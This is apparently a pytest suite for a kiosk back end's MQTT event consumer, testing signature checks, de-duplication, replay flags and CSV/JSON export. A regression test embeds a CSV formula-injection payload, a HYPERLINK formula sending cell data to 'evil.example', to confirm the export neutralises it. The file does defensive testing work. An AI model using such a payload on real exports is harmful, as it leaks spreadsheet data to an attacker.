"""The reference consumer: verify, decrypt, de-duplicate, shared subscriptions, `kiosk-admin events`."""

from __future__ import annotations

import csv
import io
import json
import threading
import time

import pytest

from kiosk.db import open_database
from kiosk.match.decide import Decision, Outcome
from kiosk.sync import keys as keymod
from kiosk.backend.consumer import EventConsumer, SeenIds
from kiosk.sync.envelope import seal
from kiosk.sync.mqtt import tls_files
from kiosk.sync.events.format import CLAIM_FIELDS
from kiosk.sync.events.outbox import Outbox
from kiosk.sync.events.publisher import Publisher
from harness.broker import MqttProbe
from harness.polling import wait_for

SITE = "test-site"
TOPIC_T1 = f"kiosk/{SITE}/kiosk-t1/events"
T1_CN = f"{SITE}/kiosk-t1"  # the door's broker identity (docs/broker.md)


@pytest.fixture(scope="module")
def t1():
    return keymod.generate(f"{SITE}/kiosk-t1")


@pytest.fixture(scope="module")
def t2():
    return keymod.generate(f"{SITE}/kiosk-t2")


def claims(device: str, seq: int, event_id: str | None = None) -> dict:
    return {
        "event_id": event_id or f"00000000-0000-7000-8000-{seq:012d}",
        "seq": seq,
        "site": SITE,
        "device": device,
        "type": "checkin",
        "resident_id": "r-1",
        "time": time.time(),
    }


def consumer(broker, backend_keys, devices, **kw):
    settings = broker.settings("backend")
    got, bad = [], []
    c = EventConsumer(settings, tls_files(settings), backend_keys, keymod.KeyRing(devices),
                      on_event=got.append, on_invalid=bad.append, **kw)
    c.start()
    return c, got, bad


def test_duplicates_dropped_and_forgeries_reported_not_printed(broker, mqtt_probe, t1, t2, backend_keys):
    c, got, bad = consumer(broker, backend_keys, [t1, t2], client_id="backend-a")
    try:
        dev = mqtt_probe(T1_CN)
        enc = backend_keys.public().encryption
        good = seal(claims("kiosk-t1", 1), t1, enc)
        assert dev.publish(TOPIC_T1, good) < 0x80
        assert dev.publish(TOPIC_T1, good) < 0x80  # the same event again (a resend after a lost PUBACK)
        # The same event id sealed afresh is a duplicate too.
        assert dev.publish(TOPIC_T1, seal(claims("kiosk-t1", 1), t1, enc)) < 0x80
        stranger = keymod.generate(f"{SITE}/kiosk-t1")  # right name, key the back end never saw
        forgeries = {
            "malformed": b"not an envelope",
            "unknown_signer": seal(claims("kiosk-t1", 2), stranger, enc),
            # kiosk-t1's key signing words put in kiosk-t2's mouth.
            "claims_mismatch": seal(claims("kiosk-t2", 3), t1, enc),
            # kiosk-t2's genuine event, replayed on kiosk-t1's topic.
            "topic_mismatch": seal(claims("kiosk-t2", 4), t2, enc),
            "wrong_recipient": seal(claims("kiosk-t1", 5), t1, t2.public().encryption),
        }
        for payload in forgeries.values():
            assert dev.publish(TOPIC_T1, payload) < 0x80
        assert dev.publish(TOPIC_T1, seal(claims("kiosk-t1", 6), t1, enc)) < 0x80
        assert wait_for(lambda: len(got) + len(bad) + c.duplicates == 9)
        assert [e.claims["seq"] for e in got] == [1, 6]
        assert got[0].signer == f"{SITE}/kiosk-t1"
        assert c.duplicates == 2
        assert sorted(b.reason for b in bad) == sorted(forgeries)
        assert all(b.topic == TOPIC_T1 for b in bad)
    finally:
        c.close()
        c.close()


def test_shared_subscription_splits_the_load(broker, tmp_path, t1, backend_keys):
    a, got_a, _ = consumer(broker, backend_keys, [t1], client_id="backend-a", share_group="fleet")
    b, got_b, _ = consumer(broker, backend_keys, [t1], client_id="backend-b", share_group="fleet")
    assert a.topic == "$share/fleet/kiosk/+/+/events"
    db = open_database(tmp_path / "k.db")
    outbox = Outbox(db, site=SITE, device="kiosk-t1")
    committed = {outbox.commit(Decision(Outcome.UNKNOWN, i)).event_id for i in range(40)}
    try:
        with Publisher(outbox, broker.settings(T1_CN), t1, backend_keys.public()) as pub:
            assert pub.wait_drained(10)
        assert wait_for(lambda: len(got_a) + len(got_b) == 40)
        ids_a = {e.claims["event_id"] for e in got_a}
        ids_b = {e.claims["event_id"] for e in got_b}
        assert ids_a and ids_b and not ids_a & ids_b  # each event went to one consumer of the group
        assert ids_a | ids_b == committed
    finally:
        a.close()
        b.close()
        db.close()


def test_seen_ids_survive_a_restart_keyed_on_site_device_and_id_and_pruned_by_age(tmp_path):
    path = tmp_path / "seen.db"
    s = SeenIds(path, keep_days=30)
    assert s.add(("s", "d1", "e1"), seq=5)
    assert s.add(("s", "d2", "e1"), seq=1)  # the same id from another door is another event
    assert not s.add(("s", "d1", "e1"), seq=5)
    assert s.add(("s", "d1", "old"), seq=2, received_at=time.time() - 31 * 86400)
    s.close()
    s = SeenIds(path, keep_days=30)
    assert ("s", "d1", "e1") in s and ("s", "d2", "e1") in s and ("s", "d1", "e2") not in s and len(s) == 3
    assert s.last_seq("s", "d1") == 5 and s.last_seq("s", "d3") is None
    assert s.prune() == 1 and ("s", "d1", "old") not in s and len(s) == 2
    assert s.last_seq("s", "d1") == 5  # the door's sequence is kept: an older replay is still flagged
    s.close()


def test_consumer_without_accepted_certificate_raises(broker, backend_keys, t1, tmp_path):
    from harness.broker import Pki

    from kiosk.errors import BrokerUnavailable

    rogue = Pki(tmp_path / "rogue")
    cert, key = rogue.client("backend")
    settings = broker.settings("backend", client_cert=cert, client_key=key)
    c = EventConsumer(settings, tls_files(settings), backend_keys, keymod.KeyRing([t1]), on_event=lambda e: None)
    with pytest.raises(BrokerUnavailable):
        c.start(timeout=2)


def _publish_when_subscribed(broker, outbox, t1, backend_keys, *, garbage: bool, subscriptions: int = 1):
    """Start publishing once the consumer's subscription shows in the broker log."""

    def run():
        assert wait_for(lambda: broker.log_text().count("kiosk/+/+/events") >= subscriptions, timeout=20)
        with Publisher(outbox, broker.settings(T1_CN), t1, backend_keys.public()) as pub:
            pub.wait_drained(10)
        if not garbage:
            return
        dev_probe = MqttProbe(broker, T1_CN)
        dev_probe.publish(TOPIC_T1, b"garbage")  # one invalid message, reported on stderr
        dev_probe.close()

    t = threading.Thread(target=run, name="test-publish", daemon=True)
    t.start()
    return t


def _write_keys(tmp_path, t1, backend_keys):
    keymod.save_private(tmp_path / "backend.jwks", backend_keys)
    keymod.save_public(tmp_path / "t1.pub.jwks", t1)


def _cli_args(broker, tmp_path, *extra):
    cert, key = broker.pki.client("backend")
    return [
        "events", "--key", str(tmp_path / "backend.jwks"), "--devices", str(tmp_path / "t1.pub.jwks"),
        "--broker", broker.url, "--ca", str(broker.pki.ca_file), "--cert", str(cert), "--tls-key", str(key),
        *extra,
    ]


def test_kiosk_admin_events_prints_json_lines(broker, tmp_path, t1, backend_keys, capsys):
    from kiosk.admin import main

    _write_keys(tmp_path, t1, backend_keys)
    db = open_database(tmp_path / "k.db")
    outbox = Outbox(db, site=SITE, device="kiosk-t1")
    committed = [outbox.commit(Decision(Outcome.ACCEPTED, i, f"r-{i}", 0.3, 0.1, 3), gallery_version=2) for i in range(5)]
    t = _publish_when_subscribed(broker, outbox, t1, backend_keys, garbage=True)
    code = main(_cli_args(broker, tmp_path, "--idle-timeout", "10", "--seen", str(tmp_path / "seen.db")))
    t.join(10)
    out = capsys.readouterr()
    lines = [json.loads(x) for x in out.out.splitlines()]
    assert [x["event_id"] for x in lines] == [c.event_id for c in committed]
    assert lines[0]["resident_id"] == "r-0" and lines[0]["gallery_version"] == 2
    assert code == 3  # the garbage message was reported ...
    assert '"invalid": "malformed"' in out.err  # ... on stderr, not printed as an event
    assert "5 events" in out.err
    db.close()


def test_kiosk_admin_events_csv(broker, tmp_path, t1, backend_keys, capsys):
    from kiosk.admin import main

    _write_keys(tmp_path, t1, backend_keys)
    db = open_database(tmp_path / "k.db")
    outbox = Outbox(db, site=SITE, device="kiosk-t1")
    for i in range(3):
        outbox.commit(Decision(Outcome.UNKNOWN, i, distance=0.7, frames=4))
    t = _publish_when_subscribed(broker, outbox, t1, backend_keys, garbage=False)
    code = main(_cli_args(broker, tmp_path, "--format", "csv", "--count", "3", "--share", "g1", "--seen", "none"))
    t.join(10)
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0] == [*CLAIM_FIELDS, "flags"]
    assert len(rows) == 4 and {r[CLAIM_FIELDS.index("type")] for r in rows[1:]} == {"unknown"}
    assert [r[CLAIM_FIELDS.index("seq")] for r in rows[1:]] == ["1", "2", "3"]
    assert code == 0
    db.close()


def test_kiosk_admin_events_csv_hands_a_spreadsheet_no_formula(broker, tmp_path, t1, backend_keys, capsys):
    """Issue 19, finding 4: claims a device signed as text that a spreadsheet would run are quoted in the CSV.

    Before the fix the resident id ``=HYPERLINK(...)`` and the reason
    ``@SUM(...)`` reached the CSV as they were.
    """
    from kiosk.admin import main

    _write_keys(tmp_path, t1, backend_keys)
    db = open_database(tmp_path / "k.db")
    outbox = Outbox(db, site=SITE, device="kiosk-t1")
    outbox.commit(Decision(Outcome.QR_REFUSED, 0, '=HYPERLINK("http://evil.example/?d="&A1,"open")', -0.5,
                           reason="@SUM(1,1)", method="qr"))
    t = _publish_when_subscribed(broker, outbox, t1, backend_keys, garbage=False)
    code = main(_cli_args(broker, tmp_path, "--format", "csv", "--count", "1", "--share", "g2", "--seen", "none"))
    t.join(10)
    [header, row] = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cell = dict(zip(header, row))
    assert cell["resident_id"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"open")'
    assert cell["reason"] == "'@SUM(1,1)"
    assert cell["distance"] == "-0.5"  # a number, minus sign and all
    assert code == 0
    db.close()


def test_a_replay_after_a_restart_is_dropped_by_default_and_odd_events_flagged(broker, mqtt_probe, t1, t2, backend_keys,
                                                                              tmp_path, monkeypatch, capsys):
    """Finding 8: the reference consumer persists what it printed, keyed on (site, device, event id)."""
    from kiosk.admin import main

    monkeypatch.chdir(tmp_path)  # the default --seen file lands here
    _write_keys(tmp_path, t1, backend_keys)
    keymod.save_public(tmp_path / "t2.pub.jwks", t2)
    enc = backend_keys.public().encryption
    first = seal(claims("kiosk-t1", 10, "00000000-0000-7000-8000-00000000000a"), t1, enc)
    args = _cli_args(broker, tmp_path, "--client-id", "backend-replay", "--session-expiry", "60",
                     "--idle-timeout", "5")  # its clock starts before the subscription
    args[args.index("--devices") + 1 : args.index("--devices") + 2] = [str(tmp_path / "t1.pub.jwks"),
                                                                       str(tmp_path / "t2.pub.jwks")]

    def publish_later(*payloads):
        def run():
            assert wait_for(lambda: broker.log_text().count("kiosk/+/+/events") >= publish_later.subs + 1, timeout=20)
            dev = MqttProbe(broker, T1_CN)
            for topic, p in payloads:
                dev.publish(topic, p)
            dev.close()
        t = threading.Thread(target=run, daemon=True)
        t.start()
        return t

    publish_later.subs = 0
    t = publish_later((TOPIC_T1, first))
    assert main(args) == 0
    t.join(10)
    assert [json.loads(x)["seq"] for x in capsys.readouterr().out.splitlines()] == [10]
    assert (tmp_path / "events-seen.db").exists()

    # A second run: the same event replayed, an older event of the same door (a replay of one
    # forgotten since: its sequence goes back), and an event from a clock far ahead.
    publish_later.subs = 1
    older = claims("kiosk-t1", 3, "00000000-0000-7000-8000-000000000003")
    older["time"] = time.time() - 3 * 86400
    ahead = claims("kiosk-t1", 11, "00000000-0000-7000-8000-00000000000b")
    ahead["time"] = time.time() + 3600
    t = publish_later((TOPIC_T1, first), (TOPIC_T1, seal(older, t1, enc)), (TOPIC_T1, seal(ahead, t1, enc)))
    assert main(args) == 0
    t.join(10)
    out = capsys.readouterr()
    printed = [json.loads(x) for x in out.out.splitlines()]
    assert [(p["seq"], p.get("flags")) for p in printed] == [(3, ["seq_backwards", "late"]), (11, ["clock_ahead"])]
    assert "1 duplicates dropped" in out.err


def test_csv_output_file_gets_one_header_over_several_runs(broker, tmp_path, t1, backend_keys):
    from kiosk.admin import main

    _write_keys(tmp_path, t1, backend_keys)
    out_file = tmp_path / "events.csv"
    for run in range(2):
        db = open_database(tmp_path / f"k{run}.db")
        outbox = Outbox(db, site=SITE, device="kiosk-t1")
        for i in range(2):
            outbox.commit(Decision(Outcome.UNKNOWN, i, distance=0.7, frames=4))
        t = _publish_when_subscribed(broker, outbox, t1, backend_keys, garbage=False, subscriptions=run + 1)
        assert main(_cli_args(broker, tmp_path, "--format", "csv", "--count", "2", "--output", str(out_file),
                              "--seen", "none")) == 0
        t.join(10)
        db.close()
    rows = list(csv.reader(io.StringIO(out_file.read_text())))
    assert rows[0] == [*CLAIM_FIELDS, "flags"] and len(rows) == 5
    assert rows.count(rows[0]) == 1  # the header once, not once per run


def test_a_message_that_cannot_be_checked_is_refused_and_the_rest_go_on(broker, mqtt_probe, t1, backend_keys,
                                                                       monkeypatch):
    """Checking never raises today (check_message catches all); should a bug make it raise, that one message is
    refused and acknowledged, not redelivered to stop the consumer after every restart."""
    import kiosk.backend.consumer as consumer_module

    real = consumer_module.check_message

    def fails_on_poison(topic, payload, *a, **kw):
        if bytes(payload) == b"poison":
            raise RuntimeError("a bug in checking")
        return real(topic, payload, *a, **kw)

    monkeypatch.setattr(consumer_module, "check_message", fails_on_poison)
    c, got, bad = consumer(broker, backend_keys, [t1], client_id="backend-a", session_expiry=300)
    try:
        dev = mqtt_probe(T1_CN)
        assert dev.publish(TOPIC_T1, b"poison") < 0x80
        assert dev.publish(TOPIC_T1, seal(claims("kiosk-t1", 1), t1, backend_keys.public().encryption)) < 0x80
        assert wait_for(lambda: len(got) == 1 and len(bad) == 1)
        assert (bad[0].reason, bad[0].detail, bad[0].payload_bytes) == ("unreadable", "RuntimeError while checking", 6)
        assert c._thread.is_alive() and c.network_alive() and c.uncheckable == 1
    finally:
        c.close()
    # Acknowledged: the session resumed gets nothing again.
    c, got, bad = consumer(broker, backend_keys, [t1], client_id="backend-a", session_expiry=300)
    try:
        time.sleep(1.0)
        assert (got, bad) == ([], [])
    finally:
        c.close()


def test_a_topic_that_is_not_utf8_is_refused_not_raised(broker, backend_keys, t1):
    """Mosquitto refuses such topics; a broker or bridge that does not would have ended the consumer."""
    import paho.mqtt.client as mqtt

    settings = broker.settings("backend")
    c = EventConsumer(settings, tls_files(settings), backend_keys, keymod.KeyRing([t1]), on_event=lambda e: None)
    msg = mqtt.MQTTMessage(mid=1, topic=b"kiosk/test-site/kiosk-t1\xff/events")
    sealed = seal(claims("kiosk-t1", 1), t1, backend_keys.public().encryption)
    msg.payload = sealed.encode() if isinstance(sealed, str) else sealed
    with pytest.raises(UnicodeDecodeError):
        msg.topic
    checked = c._check(msg, time.time())
    assert checked.reason == "topic_mismatch" and "\\xff" in checked.topic, checked


@pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")
def test_a_network_thread_ended_by_a_callback_is_seen_and_logged(broker, tmp_path, caplog):
    """An exception in one of paho's callbacks ends its thread silently (no on_disconnect, no reconnect): the ingest
    sees it and exits for systemd to restart, and paho's own report of it reaches the log."""
    from harness.ingest_kit import SimulatedSite
    from kiosk.backend.config import load_ingest_config
    from kiosk.backend.ingest import Ingest

    fleet = SimulatedSite(tmp_path / "fleet", broker, 1)
    service = Ingest(load_ingest_config(fleet.ingest_config(f"sqlite:///{tmp_path / 'events.db'}")))
    service.start()
    try:
        assert service.alive()

        def broken(client, userdata, msg):
            raise RuntimeError("a bug in a callback")

        service.consumer._client.on_message = broken
        network = service.consumer._client._thread
        door = MqttProbe(broker, "elm-court/door-1")
        door.publish("kiosk/elm-court/door-1/events", b"x")
        door.close()
        assert wait_for(lambda: not service.alive(), 10)
        network.join(5)  # its exception reported within this test
        assert service.consumer._thread.is_alive()  # the consumer's own thread would have waited forever
        [said] = [r.getMessage() for r in caplog.records if r.name == "kiosk.mqtt.paho"]
        assert said == "Caught exception in on_message: RuntimeError"  # its type, not its text
    finally:
        service.close()
